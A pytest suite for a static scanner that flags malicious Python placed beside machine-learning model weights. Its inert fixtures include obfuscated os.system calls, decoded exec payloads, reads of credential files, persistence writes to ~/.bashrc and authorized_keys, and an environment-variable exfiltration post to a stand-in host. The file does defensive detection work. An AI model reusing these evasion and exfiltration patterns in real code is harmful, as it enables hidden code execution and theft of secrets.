"""CodeScanner: Python beside weights, analysed with ``ast`` and never imported.

Every "malicious" source below is only ever parsed; the payloads are inert text.
"""

from __future__ import annotations

import io
import textwrap
from pathlib import Path

import pytest

from scanners.base import Artifact, ScanContext
from scanners.code_scan import CodeScanner
from scanners.config_scan import ConfigScanner
from supplychain.core.limits import Limits
from supplychain.core.model import ArtifactKind, Finding, Severity, Status
from supplychain.engine import ScanOptions, scan_paths

BENIGN_MODELING = '''\
# coding=utf-8
# Copyright 2024 The Foo Authors. Licensed under the Apache License, Version 2.0.
"""PyTorch Foo model. See https://arxiv.org/abs/1706.03762 for the attention mechanism."""

from __future__ import annotations

import math
import os
from typing import Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn

from transformers import PretrainedConfig, PreTrainedModel
from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutput
from transformers.utils import is_flash_attn_2_available, logging

from .configuration_foo import FooConfig

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func

logger = logging.get_logger(__name__)
_CHECKPOINT_FOR_DOC = "foo-org/foo-base"
CACHE_DIR = os.environ.get("HF_HOME", os.path.join(os.path.expanduser("~"), ".cache"))


class FooRMSNorm(nn.Module):
    def __init__(self, hidden_size: int, eps: float = 1e-6) -> None:
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        variance = hidden_states.pow(2).mean(-1, keepdim=True)
        hidden_states = hidden_states * torch.rsqrt(variance + self.variance_epsilon)
        return self.weight * hidden_states


class FooAttention(nn.Module):
    def __init__(self, config: FooConfig, layer_idx: Optional[int] = None) -> None:
        super().__init__()
        self.config = config
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // self.num_heads
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.k_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.v_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.o_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = ACT2FN[config.hidden_act]
        if layer_idx is None:
            logger.warning_once("Instantiating %s without a layer_idx", self.__class__.__name__)

    def forward(
        self, hidden_states: torch.Tensor, attention_mask: Optional[torch.Tensor] = None
    ) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
        bsz, q_len, _ = hidden_states.size()
        q = self.q_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim)
        k = self.k_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim)
        v = self.v_proj(hidden_states).view(bsz, q_len, self.num_heads, self.head_dim)
        scores = torch.matmul(q, k.transpose(2, 3)) / math.sqrt(self.head_dim)
        if attention_mask is not None:
            scores = scores + attention_mask
        probs = F.softmax(scores, dim=-1, dtype=torch.float32).to(q.dtype)
        out = torch.matmul(probs, v).reshape(bsz, q_len, -1)
        return self.o_proj(out), probs


class FooPreTrainedModel(PreTrainedModel):
    config_class = FooConfig
    base_model_prefix = "model"
    supports_gradient_checkpointing = True
    _no_split_modules = ["FooDecoderLayer"]

    def _init_weights(self, module: nn.Module) -> None:
        std = self.config.initializer_range
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)
            if module.bias is not None:
                module.bias.data.zero_()


class FooModel(FooPreTrainedModel):
    def __init__(self, config: FooConfig) -> None:
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList(
            [FooAttention(config, i) for i in range(config.num_hidden_layers)]
        )
        self.norm = FooRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.post_init()

    def forward(self, input_ids: torch.LongTensor) -> BaseModelOutput:
        hidden = self.embed_tokens(input_ids)
        for layer in self.layers:
            hidden = hidden + layer(hidden)[0]
        return BaseModelOutput(last_hidden_state=self.norm(hidden))

    def load_extra_state(self, path: str) -> dict:
        # Older checkpoints kept rotary caches in a separate file.
        return torch.load(os.path.join(path, "rotary.pt"), map_location="cpu")
'''

BENIGN_TOKENIZER = '''\
import json
import os
import re
import unicodedata
from shutil import copyfile

import requests
from transformers import PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)
VOCAB_FILES_NAMES = {"vocab_file": "vocab.json", "merges_file": "merges.txt"}
PRETRAINED_VOCAB_URL = "https://huggingface.co/foo-org/foo-base/resolve/main/vocab.json"


def fetch_vocab(cache_dir: str) -> str:
    target = os.path.join(cache_dir, "vocab.json")
    if not os.path.exists(target):
        response = requests.get(PRETRAINED_VOCAB_URL, timeout=30)
        response.raise_for_status()
        with open(target, "wb") as f:
            f.write(response.content)
    return target


class FooTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES
    model_input_names = ["input_ids", "attention_mask"]

    def __init__(self, vocab_file, merges_file, unk_token="<unk>", **kwargs):
        with open(vocab_file, encoding="utf-8") as handle:
            self.encoder = json.load(handle)
        self.decoder = {v: k for k, v in self.encoder.items()}
        self.pat = re.compile(r"""'s|'t|'re|'ve|'m|'ll|'d| ?\\p{L}+| ?\\p{N}+""")
        super().__init__(unk_token=unk_token, **kwargs)

    def _tokenize(self, text):
        text = unicodedata.normalize("NFC", text)
        return self.pat.findall(text)

    def save_vocabulary(self, save_directory, filename_prefix=None):
        vocab_file = os.path.join(save_directory, (filename_prefix or "") + "vocab.json")
        with open(vocab_file, "w", encoding="utf-8") as f:
            f.write(json.dumps(self.encoder, ensure_ascii=False))
        if os.path.abspath(self.vocab_file) != os.path.abspath(vocab_file):
            copyfile(self.vocab_file, vocab_file)
        return (vocab_file,)
'''


def scan_source(source: str | bytes, name: str = "modeling_foo.py", **limits: int) -> list[Finding]:
    data = source.encode() if isinstance(source, str) else source
    artifact = Artifact(
        path=name, kind=ArtifactKind.PYTHON_SOURCE, size=len(data), stream=io.BytesIO(data)
    )
    ctx = ScanContext(limits=Limits(**limits)) if limits else ScanContext()
    return list(CodeScanner().scan(artifact, ctx))


def src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def rules_at(findings: list[Finding], severity: Severity) -> set[str]:
    return {f.rule for f in findings if f.severity >= severity}


def worst(findings: list[Finding], rule: str) -> Severity:
    matching = [f.severity for f in findings if f.rule == rule]
    assert matching, f"no {rule} in {[(f.rule, f.message) for f in findings]}"
    return max(matching)


# -- benign controls -------------------------------------------------------------------------


def test_realistic_modeling_file_has_nothing_above_low() -> None:
    findings = scan_source(BENIGN_MODELING)
    assert rules_at(findings, Severity.MEDIUM) == set(), [(f.rule, f.message) for f in findings]
    # torch.load in a helper is worth a LOW note, nothing more.
    assert {f.rule for f in findings} == {"COD007"}
    assert worst(findings, "COD007") is Severity.LOW


def test_realistic_tokenizer_with_download_helper_is_medium_at_most() -> None:
    findings = scan_source(BENIGN_TOKENIZER, "tokenization_foo.py")
    # The download is MEDIUM; writing the downloaded vocab is a LOW note; save_vocabulary is silent.
    assert rules_at(findings, Severity.MEDIUM) == {"COD004"}
    assert worst(findings, "COD004") is Severity.MEDIUM
    assert {f.rule for f in findings} <= {"COD004", "COD005"}


def test_plain_imports_and_path_helpers_are_silent() -> None:
    code = src("""
        import logging, os, subprocess, socket
        from os import path
        logger = logging.getLogger(__name__)
        ROOT = os.path.join(os.path.dirname(__file__), "weights")
        HOME = os.environ.get("HF_HOME")
        PIPE = subprocess.PIPE
        FAMILY = socket.AF_INET
        def f(x):
            return os.path.exists(x) and os.getcwd()
    """)
    assert scan_source(code) == []


def test_ordinary_environment_and_torch_settings_are_silent() -> None:
    code = src("""
        import os, torch, requests
        os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
        MAX = int(os.getenv("MAX_NEW_TOKENS", "128"))
        torch.backends.cuda.matmul.allow_tf32 = True
        os.environ["CUDA_VISIBLE_DEVICES"] = "0"
        def author():
            return os.environ.get("HF_HUB_AUTHOR")
    """)
    assert scan_source(code) == []


def test_native_extension_build_is_flagged() -> None:
    code = "from torch.utils.cpp_extension import load\nwkv = load(name='wkv', sources=['k.cu'])\n"
    assert worst(scan_source(code), "COD002") is Severity.HIGH


def test_torch_load_with_weights_only_is_silent() -> None:
    code = "import torch\ndef f(p):\n    return torch.load(p, weights_only=True)\n"
    assert scan_source(code) == []


# -- process execution -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system('echo hi')\n",
        "import os as o\no.system('echo hi')\n",
        "from os import system as s\ns('echo hi')\n",
        "from subprocess import *\ncall(['echo', 'hi'])\n",
        "import subprocess as sp\nsp.check_output(['echo', 'hi'])\n",
        "import os\nos.execvp('echo', ['echo'])\n",
        "import os\nos.spawnlp(0, 'echo', 'echo')\n",
        "import pty\npty.spawn('/bin/echo')\n",
        "import os\ngetattr(os, 'sys' + 'tem')('echo hi')\n",
        "import os\ngetattr(os, ''.join(['sy', 'stem']))('echo hi')\n",
        "import os\ngetattr(os, 'metsys'[::-1])('echo hi')\n",
        "__import__('os').system('echo hi')\n",
        "import importlib\nimportlib.import_module('subprocess').run(['echo'])\n",
        "import sys\nsys.modules['os'].system('echo hi')\n",
        "import os\nrun = os.system\nrun('echo hi')\n",
        "import base64, os\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('echo')\n",
        "import codecs, os\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('echo')\n",
        "import torch.utils.collect_env as ce\nce.run('echo hi')\n",
    ],
)
def test_process_execution_at_import_time_is_critical(code: str) -> None:
    assert worst(scan_source(code), "COD001") is Severity.CRITICAL


def test_process_execution_inside_function_is_high() -> None:
    code = src("""
        import subprocess
        def helper():
            subprocess.run(["echo", "hi"])
    """)
    assert worst(scan_source(code), "COD001") is Severity.HIGH


@pytest.mark.parametrize(
    ("code", "where"),
    [
        # class bodies execute at import time
        ("import os\nclass Foo:\n    os.system('echo')\n", "import time"),
        # decorators run at definition time, and so does the decorator's body
        (
            "import os\ndef deco(f):\n    os.system('echo')\n    return f\n"
            "@deco\ndef g():\n    pass\n",
            "called at import time",
        ),
        # default arguments are evaluated when the def runs
        ("import os\ndef f(a=os.popen('echo').read()):\n    return a\n", "import time"),
        ("import os\nf = lambda a=os.system('echo'): a\n", "import time"),
        # a function called from module level
        ("import os\ndef f():\n    os.system('echo')\nf()\n", "called at import time"),
        # transitively, through another function
        (
            "import os\ndef f():\n    os.system('echo')\ndef g():\n    f()\ng()\n",
            "called at import time via g",
        ),
        # instantiating a class at module level runs __init__
        (
            "import os\nclass A:\n    def __init__(self):\n        os.system('echo')\nA()\n",
            "called at import time",
        ),
        # registered as a callback (atexit, threads) at module level
        ("import atexit, os\ndef f():\n    os.system('echo')\natexit.register(f)\n", "called"),
        (
            "import threading, os\nthreading.Thread(target=os.system, args=('echo',)).start()\n",
            "import time",
        ),
        # __init_subclass__ runs when a subclass is defined
        (
            "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('echo')\n"
            "class C(B):\n    pass\n",
            "called at import time",
        ),
        # a method reached from __init__ through self
        (
            "import os\nclass A:\n    def __init__(self):\n        self.setup()\n"
            "    def setup(self):\n        os.system('echo')\nA()\n",
            "called at import time",
        ),
    ],
)
def test_import_time_shapes_escalate_to_critical(code: str, where: str) -> None:
    findings = scan_source(code)
    assert worst(findings, "COD001") is Severity.CRITICAL
    assert any(where in f.message for f in findings if f.rule == "COD001")


def test_main_guard_and_type_checking_are_not_import_time() -> None:
    code = src("""
        import os
        from typing import TYPE_CHECKING
        if TYPE_CHECKING:
            import subprocess
        if __name__ == "__main__":
            os.system("echo hi")
    """)
    assert worst(scan_source(code), "COD001") is Severity.HIGH


def test_annotation_and_base_class_references_do_not_escalate() -> None:
    code = src("""
        import os
        class Helper:
            def __init__(self):
                os.system("echo")
        def f(x: Helper) -> Helper:
            return x
        class Sub(Helper):
            pass
    """)
    assert worst(scan_source(code), "COD001") is Severity.HIGH


# -- dynamic code and obfuscation --------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "eval('1 + 1')\n",
        "exec('x = 1')\n",
        "code = compile('x = 1', 'f', 'exec')\n",
        "import builtins\nbuiltins.exec('x = 1')\n",
        "getattr(__builtins__, 'ex' + 'ec')('x = 1')\n",
        "import builtins\ngetattr(builtins, name)('x = 1')\n",
        "import marshal\nmarshal.loads(blob)\n",
        "import ctypes\nctypes.CDLL('libc.so.6')\n",
        "import runpy\nrunpy.run_path('x.py')\n",
        "import builtins\nbuiltins.__dict__['exec']('x = 1')\n",
        "f = globals()['__builtins__']['eval']\nf('1')\n",
    ],
)
def test_dynamic_code_at_import_time_is_critical(code: str) -> None:
    assert worst(scan_source(code), "COD002") is Severity.CRITICAL


def test_dynamic_code_inside_function_is_high() -> None:
    assert worst(scan_source("def f(s):\n    return eval(s)\n"), "COD002") is Severity.HIGH


@pytest.mark.parametrize(
    "code",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoImhpIik='))\n",
        "import base64\nexec(base64.b64decode('cHJpbnQoImhpIik=').decode())\n",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
        "import zlib\nexec(zlib.decompress(blob))\n",
        "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')\n",
        "import pickle, base64\npickle.loads(base64.b64decode('gARLAS4='))\n",
    ],
)
def test_decoded_payload_into_sink_is_critical(code: str) -> None:
    assert worst(scan_source(code), "COD003") is Severity.CRITICAL


def test_exec_of_constant_string_is_analysed_recursively() -> None:
    findings = scan_source("exec(\"import os; os.system('echo hi')\")\n")
    assert worst(findings, "COD001") is Severity.CRITICAL
    assert any("inside a string passed to exec" in f.message for f in findings)


def test_large_base64_blob_that_decodes_to_code_is_flagged() -> None:
    import base64

    payload = base64.b64encode(b"import os\nprint('inert')\n" * 60).decode()
    findings = scan_source(f"DATA = {payload!r}\n")
    assert "COD003" in {f.rule for f in findings}


def test_large_base64_of_random_bytes_is_not_flagged() -> None:
    import base64

    payload = base64.b64encode(bytes(range(256)) * 8).decode()
    assert scan_source(f"TABLE = {payload!r}\n") == []


def test_dynamic_import_with_computed_name_is_flagged() -> None:
    code = "import importlib\ndef load(name):\n    return importlib.import_module(name)\n"
    assert worst(scan_source(code), "COD008") is Severity.MEDIUM
    assert scan_source("import importlib\nm = importlib.import_module('json')\n") == []


# -- network, files, credentials -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        ("import socket\ns = socket.socket()\n", Severity.CRITICAL),
        ("import socket\ndef f():\n    socket.create_connection(('a', 1))\n", Severity.HIGH),
        ("import urllib.request\nurllib.request.urlopen('https://x.example/a')\n", Severity.HIGH),
        (
            "from urllib.request import urlopen as u\ndef f():\n    u('https://x')\n",
            Severity.MEDIUM,
        ),
        ("import requests\ndef f():\n    requests.post('http://10.9.8.7/x')\n", Severity.HIGH),
        ("import http.client\nhttp.client.HTTPSConnection('x.example')\n", Severity.HIGH),
        ("import paramiko\ndef f():\n    paramiko.SSHClient()\n", Severity.HIGH),
        ("import webbrowser\nwebbrowser.open('https://x.example')\n", Severity.CRITICAL),
        ("import httpx\nhttpx.get('https://x.example')\n", Severity.HIGH),
        ("def f(conn):\n    conn.connect(('10.1.2.3', 4444))\n", Severity.MEDIUM),
    ],
)
def test_network_access(code: str, severity: Severity) -> None:
    assert worst(scan_source(code), "COD004") is severity


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        ("import shutil\nshutil.rmtree('/data')\n", Severity.HIGH),
        ("import os\ndef f(p):\n    os.remove(p)\n", Severity.MEDIUM),
        ("open('out.txt', 'w').write('x')\n", Severity.MEDIUM),
        ("def forward(x):\n    open('log.txt', 'a').write(str(x))\n", Severity.LOW),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", Severity.CRITICAL),
        ("def f():\n    open('/etc/cron.d/job', 'w').write('x')\n", Severity.HIGH),
        ("def f(k):\n    open('~/.ssh/authorized_keys', 'a').write(k)\n", Severity.HIGH),
    ],
)
def test_file_system_writes(code: str, severity: Severity) -> None:
    assert worst(scan_source(code), "COD005") is severity


def test_writes_in_save_helpers_are_silent() -> None:
    code = "def save_pretrained(d):\n    open(d + '/x.json', 'w').write('{}')\n"
    assert scan_source(code) == []


def test_secret_env_read_alone_is_low_but_with_network_is_high() -> None:
    alone = "import os\ndef f():\n    return os.environ['HF_TOKEN']\n"
    assert worst(scan_source(alone), "COD006") is Severity.LOW
    exfil = src("""
        import os, requests
        def f():
            token = os.getenv("AWS_SECRET_ACCESS_KEY")
            requests.post("https://x.example", data=dict(os.environ))
    """)
    findings = scan_source(exfil)
    assert worst(findings, "COD006") is Severity.HIGH
    assert any("exfiltration" in f.message for f in findings)


def test_exfiltration_at_import_time_is_critical() -> None:
    code = "import os, urllib.request\nurllib.request.urlopen('https://x', str(os.environ))\n"
    assert worst(scan_source(code), "COD006") is Severity.CRITICAL


@pytest.mark.parametrize("path", ["/root/.aws/credentials", "/etc/shadow", "~/.ssh/id_rsa"])
def test_credential_file_read_is_flagged(path: str) -> None:
    code = f"def f():\n    return open({path!r}).read()\n"
    assert worst(scan_source(code), "COD006") is Severity.HIGH


def test_pickle_loading_helpers() -> None:
    assert worst(scan_source("import torch\ndef f(p):\n    torch.load(p)\n"), "COD007") is (
        Severity.LOW
    )
    assert worst(scan_source("import pickle\ndef f(fh):\n    pickle.load(fh)\n"), "COD007") is (
        Severity.MEDIUM
    )
    assert worst(scan_source("import numpy as np\nnp.load('x.npy', allow_pickle=True)\n"), "COD007")


def test_runtime_patching_is_flagged() -> None:
    code = "import builtins, sys\nbuiltins.open = None\nsys.modules['json'] = None\n"
    assert worst(scan_source(code), "COD011") is Severity.HIGH
    assert worst(scan_source("import os\nos.environ['LD_PRELOAD'] = '/x.so'\n"), "COD011")


# -- encodings, hidden characters, malformed input ------------------------------------------------


def test_utf7_coding_cookie_is_flagged_and_decoded() -> None:
    # "os.system" written in UTF-7: looks like noise to a text scanner, runs under CPython.
    code = b"# -*- coding: utf-7 -*-\nimport os\n+AG8AcwAuAHMAeQBzAHQAZQBt-('echo hi')\n"
    findings = scan_source(code)
    assert "COD010" in {f.rule for f in findings}
    assert worst(findings, "COD001") is Severity.CRITICAL


def test_trojan_source_bidi_in_code_is_high() -> None:
    # NOTE: Trojan Source, CVE-2021-42574 (https://trojansource.codes/).
    code = 'access = "user"\nif access != "none\u202e \u2066# admin\u2069 \u2066":\n    pass\n'
    assert worst(scan_source(code), "COD010") >= Severity.MEDIUM


def test_syntax_error_is_a_finding_with_fallback_severity() -> None:
    assert worst(scan_source("def f(:\n    pass\n"), "COD009") is Severity.LOW
    decoy = "def f(:\n    pass\nimport os; os.system('echo hi')\n"
    assert worst(scan_source(decoy), "COD009") is Severity.MEDIUM


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 40,  # binary garbage named .py
        b"import os\x00\nos.system('x')\n",  # NUL bytes
        b"x = '\xff\xfe\xfa'\n",  # invalid UTF-8
        b"x = " + b"(" * 100_000 + b"1" + b")" * 100_000 + b"\n",  # deeply nested parentheses
        b"x = " + b"-" * 100_000 + b"1\n",  # deeply nested unary operators
        b"x = " + b"+".join([b"1"] * 100_000) + b"\n",  # very long expression chain
        b"x = [" * 5_000 + b"]" * 5_000,
        b"\xef\xbb\xbf# -*- coding: latin-1 -*-\nx = 1\n",  # BOM contradicting the cookie
        b"# -*- coding: no-such-codec -*-\nx = 1\n",
    ],
)
def test_malformed_source_gives_a_finding_never_a_traceback(data: bytes) -> None:
    findings = scan_source(data)
    assert findings, "malformed source must not be reported clean"
    assert all(f.rule.startswith("COD") for f in findings)


def test_oversized_source_raises_limit() -> None:
    from supplychain.core.errors import LimitExceeded

    with pytest.raises(LimitExceeded):
        scan_source("x = 1\n" * 1000, max_header_bytes=1000)


def test_evidence_and_offset_point_at_the_call() -> None:
    code = "import os\n\n\nos.system('echo hi')\n"
    (finding,) = scan_source(code)
    assert finding.evidence == "os.system('echo hi')"
    assert finding.location.offset == code.index("os.system")
    assert "line 4" in finding.message


# -- through the engine ----------------------------------------------------------------------


def _model_dir(tmp_path: Path) -> Path:
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text(
        '{"model_type": "x", "architectures": ["XModel"],'
        ' "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}}'
    )
    (model / "modeling_x.py").write_text(
        "import os\nfrom torch import nn\n"
        "os.system('echo inert')\n"
        "class XModel(nn.Module):\n    def forward(self, x):\n        return x * 2\n"
    )
    return model


def test_engine_scans_model_dir(tmp_path: Path) -> None:
    model = _model_dir(tmp_path)
    report = scan_paths([model], ScanOptions(scanners=(CodeScanner, ConfigScanner)))
    by_path = {(f.location.path, f.rule): f for f in report.findings}
    assert by_path[("modeling_x.py", "COD001")].severity is Severity.CRITICAL
    cfg = [f for f in report.findings if f.location.path == "config.json"]
    assert {f.rule for f in cfg} == {"CFG001"}
    messages = " ".join(f.message for f in cfg)
    assert "modeling_x.py (present beside the config)" in messages
    assert "configuration_x.py (MISSING" in messages
    assert not report.failed
    scanned = {(r.scanner, r.path) for r in report.results if r.status is Status.SCANNED}
    assert ("python-code", "modeling_x.py") in scanned


def test_engine_benign_dir_is_quiet(tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text('{"model_type": "bert", "architectures": ["BertModel"]}')
    (model / "modeling_foo.py").write_text(BENIGN_MODELING)
    report = scan_paths([model], ScanOptions(scanners=(CodeScanner, ConfigScanner)))
    assert all(f.severity <= Severity.LOW for f in report.findings)
    assert not report.failed


# --------------------------------------------------------------------------------------------
# Names are resolved through imports and assignments, scope by scope (issue #10).
# --------------------------------------------------------------------------------------------

VARIABLE_NAMED_LIKE_A_MODULE = {
    "module_level_handler": """\
        import logging
        sh = logging.StreamHandler()
        sh.setLevel(logging.INFO)
        """,
    "function_local": """\
        import logging
        def setup():
            sh = logging.StreamHandler()
            sh.run = None
            sh.setFormatter(None)
            return sh
        """,
    "local_shadows_imported_module": """\
        import socket
        def probe(host):
            socket = {"host": host}
            socket.get("host")
        """,
    "attribute_of_self": """\
        class Pipeline:
            sh = None
            def __init__(self, sh):
                self.sh = sh
            def go(self):
                self.sh.run("x")
        """,
    "loop_and_with_targets": """\
        def f(items, ctx):
            for requests in items:
                requests.get("k")
            with ctx() as subprocess:
                subprocess.run()
        """,
    "class_attribute_not_seen_from_method": """\
        import logging
        class A:
            sh = logging.getLogger()
            def f(self):
                return self.sh.info("x")
        """,
    "list_named_commands": """\
        def format_commands(self, formatter):
            commands = []
            for sub in self.list_commands():
                commands.append((sub, self.get_command(sub)))
            return commands.pop()
        """,
    "hash_named_sh": """\
        import hashlib
        def sha256_of_file(path):
            sh = hashlib.sha256()
            sh.update(open(path, "rb").read())
            return sh.hexdigest()
        """,
    "relative_import": """\
        from .sh import run
        from . import requests
        run()
        requests.get("x")
        """,
}


@pytest.mark.parametrize("name", sorted(VARIABLE_NAMED_LIKE_A_MODULE))
def test_variable_named_like_a_module_is_not_that_module(name: str) -> None:
    got = scan_source(textwrap.dedent(VARIABLE_NAMED_LIKE_A_MODULE[name]))
    assert [f for f in got if f.rule in ("COD001", "COD006", "COD007")] == []


PROCESS_EXECUTION_KEPT = {
    "plain_import": ("import os\nos.system('echo supplychain-sample')\n", "os.system"),
    "import_sh": ("import sh\nsh.ls('-l')\n", "sh.ls"),
    "from_import_alias": (
        "from subprocess import run as sh\nsh(['echo', 'supplychain-sample'])\n",
        "subprocess.run",
    ),
    "dunder_import_getattr": (
        "getattr(__import__('os'), 'system')('echo supplychain-sample')\n",
        "os.system",
    ),
    "alias_of_alias_across_scopes": (
        "import subprocess as sp\ns = sp\ndef g():\n    s.Popen('x')\ng()\n",
        "subprocess.Popen",
    ),
    "local_rebinding_to_a_module": (
        "def f():\n    os = __import__('os')\n    os.system('x')\nf()\n",
        "os.system",
    ),
    "parameter_default_is_a_module": (
        "def f(m=__import__('subprocess')):\n    m.run('x')\nf()\n",
        "subprocess.run",
    ),
    "parameter_named_after_imported_module": (
        "import subprocess\ndef f(subprocess):\n    subprocess.run('x')\nf(subprocess)\n",
        "subprocess.run",
    ),
    "global_declared_import": (
        "def g():\n    global sh\n    import sh\ndef h():\n    sh.ls()\ng()\nh()\n",
        "sh.ls",
    ),
    "import_and_fallback_assignment": (
        "try:\n    import subprocess\nexcept ImportError:\n    subprocess = None\n"
        "subprocess.run('x')\n",
        "subprocess.run",
    ),
    "function_local_import": ("def f():\n    import os\n    os.popen('x')\nf()\n", "os.popen"),
    "import_wrapped_in_a_call": (
        "def w(m):\n    return m\nsubprocess = w(__import__('subprocess'))\nsubprocess.run('x')\n",
        "subprocess.run",
    ),
    "wrapped_dotted_import_is_the_top_package": (
        "def w(m):\n    return m\nx = w(__import__('os.path'))\nx.system('x')\n",
        "os.system",
    ),
    "class_body_comprehension_sees_the_module": (
        "import subprocess\nclass A:\n    subprocess = None\n"
        "    out = [subprocess.run(c) for c in ['x']]\n",
        "subprocess.run",
    ),
}


@pytest.mark.parametrize("name", sorted(PROCESS_EXECUTION_KEPT))
def test_process_execution_through_imports_is_still_found(name: str) -> None:
    source, qual = PROCESS_EXECUTION_KEPT[name]
    got = scan_source(source)
    hits = [f for f in got if f.rule == "COD001" and qual in f.message]
    assert hits, [(f.rule, f.message) for f in got]
    assert max(f.severity for f in hits) >= Severity.HIGH
